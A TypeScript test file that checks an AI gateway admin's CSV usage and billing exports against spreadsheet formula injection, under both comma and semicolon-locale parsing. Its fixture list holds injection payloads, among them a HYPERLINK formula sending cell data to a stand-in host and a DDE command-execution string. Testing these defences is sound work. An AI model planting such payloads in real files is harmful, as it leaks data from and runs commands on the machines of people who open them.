import { parse } from 'csv-parse/sync';
import { AdminHarness, startAdmin } from './admin-harness';

/**
 * The CSV downloads (`/usage/export`, `/billing/export?format=csv`) opened in a spreadsheet: text
 * that the requests themselves chose (a model name, an agent name) must never become a formula,
 * whether the program splits the rows on commas (RFC 4180, quotes honoured) or on semicolons, as
 * Excel and LibreOffice do in locales with a decimal comma (quotes honoured only at a field start).
 */

/** Model and agent names as stored, and how their CSV cell reads back with a CSV parser. */
const NAMES: [stored: string, cell: string][] = [
  ['=HYPERLINK("http://evil.example/?d="&A1,"open")', `'=HYPERLINK("http://evil.example/?d="&A1,"open")`],
  ['+SUM(1,2)', "'+SUM(1,2)"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1)', "'@SUM(A1)"],
  [' =1+1', "' =1+1"],
  ['gpt-4o;=HYPERLINK("http://evil.example");', `gpt-4o;'=HYPERLINK("http://evil.example");`],
  ['gpt-4o; "=cmd|\' /C calc\'!A0";', `gpt-4o; "'=cmd|' /C calc'!A0";`],
  ['first line\n=1+1', "first line\n'=1+1"],
  ['crlf\r\n@SUM(A1)', "crlf\r\n'@SUM(A1)"],
  ['tab\t+1', "tab\t'+1"],
  ['a,b "c"', 'a,b "c"'],
  ['gpt-4o-mini', 'gpt-4o-mini'],
];

/**
 * Cells as a spreadsheet in a semicolon locale could cut them: a new cell after every semicolon, tab
 * or line break, quotes ignored (a superset of what such a program cuts, which honours a quote only
 * at the start of a field). The quotes and spaces it would strip are stripped.
 */
function semicolonLocaleCells(document: string): string[] {
  return document.split(/[;\t\r\n]/).map((cell) => cell.replace(/^[\s"]+/, ''));
}

const FORMULA = /^[=+\-@]/;

describe('gateway admin: CSV exports are safe to open in a spreadsheet', () => {
  let h: AdminHarness;
  beforeAll(async () => {
    h = await startAdmin();
    await h.seedUsage(
      h.org.id,
      NAMES.map(([stored], i) => ({ model: stored, agent: NAMES[(i + 1) % NAMES.length][0], created_at: new Date(Date.now() - (i + 1) * 1000) })),
    );
  });
  afterAll(() => h.stop());

  async function download(path: string): Promise<string> {
    const res = await fetch(`${h.url}${path}`, { headers: { 'x-svc-api-key': h.org.admin } });
    expect({ status: res.status, type: res.headers.get('content-type') }).toEqual({ status: 200, type: 'text/csv; charset=utf-8' });
    return res.text();
  }

  it.each([
    ['usage', '/gateway/admin/usage/export'],
    ['billing', '/gateway/admin/billing/export?format=csv'],
  ])('%s export: every name reads back intact (formula starts behind a quote mark) with a CSV parser', async (_name, path) => {
    const rows: Record<string, string>[] = parse(await download(path), { columns: true });
    const cells = new Map(rows.map((row) => [row.model, row.agent]));
    NAMES.forEach(([, cell], i) => {
      expect(cells.has(cell)).toBe(true);
      expect(cells.get(cell)).toBe(NAMES[(i + 1) % NAMES.length][1]);
    });
  });

  it.each([
    ['usage', '/gateway/admin/usage/export'],
    ['billing', '/gateway/admin/billing/export?format=csv'],
  ])('%s export: no cell starts a formula when a semicolon-locale spreadsheet cuts the rows', async (_name, path) => {
    const document = await download(path);
    const formulas = semicolonLocaleCells(document).filter((cell) => FORMULA.test(cell));
    expect(formulas).toEqual([]);
    // The check sees the names: the comma-separated rows hold them, cut at their semicolons.
    expect(semicolonLocaleCells(document)).toContain(`'=HYPERLINK(""http://evil.example"")`);
  });

  it('quotes cells holding a semicolon or a tab, for programs that honour quotes with those separators', async () => {
    const document = await download('/gateway/admin/usage/export');
    expect(document).toContain(`,"gpt-4o;'=HYPERLINK(""http://evil.example"");",`);
    expect(document).toContain(`,"tab\t'+1",`);
  });
});
